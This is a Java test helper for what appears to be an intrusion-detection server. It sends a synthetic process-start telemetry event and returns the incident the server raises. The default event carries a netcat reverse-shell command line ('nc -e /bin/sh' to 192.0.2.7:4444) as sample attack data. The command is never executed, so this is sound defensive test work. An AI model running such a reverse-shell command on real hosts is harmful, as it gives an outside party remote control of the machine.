package dev.panoptes.server.detections;

import dev.panoptes.server.TestServer;
import java.io.IOException;
import java.time.Instant;
import java.util.Map;
import java.util.UUID;

/** An attack that a sensor tells of. */
public final class SentAttack {
    private SentAttack() {}

    /** Sends it, and gives the incident that it becomes. */
    public static String incident(TestServer server) throws IOException, InterruptedException {
        return incident(server, "nc", "nc -e /bin/sh 192.0.2.7 4444");
    }

    /** A process that starts on the host that is attacked. */
    public static String incident(TestServer server, String program, String command)
            throws IOException, InterruptedException {
        String token = server.call(
                        "POST",
                        "/api/v1/tokens",
                        "{\"name\":\"" + UUID.randomUUID() + "\",\"role\":\"observer\",\"host\":\"attacked-1\"}")
                .json()
                .path("token")
                .asString();
        String event = "{\"@timestamp\":\"" + Instant.now() + "\",\"event\":{\"id\":\"" + UUID.randomUUID()
                + "\",\"action\":\"process_started\",\"dataset\":\"panoptes.proc\"},\"host\":{\"name\":\"attacked-1\"},"
                + "\"process\":{\"executable\":\"/usr/bin/" + program + "\",\"command_line\":\"" + command + "\"}}";
        server.call(
                "POST",
                "/api/v1/telemetry",
                "{\"stream\":\"" + UUID.randomUUID() + "\",\"sensor\":\"proc\",\"first\":1,\"count\":1,\"lost\":[]}\n"
                        + event + "\n",
                Map.of("Authorization", "Bearer " + token, "Content-Type", "application/x-ndjson"));
        return server.get("/api/v1/incidents")
                .json()
                .path("items")
                .get(0)
                .path("id")
                .asString();
    }
}
